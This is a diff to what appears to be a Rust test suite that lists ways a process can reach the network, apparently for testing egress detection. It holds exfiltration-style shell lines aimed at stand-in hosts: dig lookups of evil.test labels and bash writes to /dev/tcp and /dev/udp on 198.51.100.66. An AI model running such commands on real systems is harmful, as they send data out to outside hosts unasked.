@@ -19,8 +19,7 @@ const WAYS: [(&str, &str); 6] = [
     ("dig +time=5 +tries=3 label.evil.test", "label"),
     ("dig +tcp +time=5 +tries=3 tcp-label.evil.test @198.51.100.53", "tcp-label"),
     ("bash -c 'echo literal >/dev/tcp/198.51.100.66/4444'", "literal"),
-    // It waits for an answer: a job that has ended at once leaves nothing to record.
-    ("bash -c 'exec 3<>/dev/udp/198.51.100.66/4445; echo datagram >&3; read -t 1 <&3; true'", "datagram"),
+    ("bash -c 'echo datagram >/dev/udp/198.51.100.66/4445'", "datagram"),
 ];
 
 pub(crate) fn add(suite: &mut Suite) {
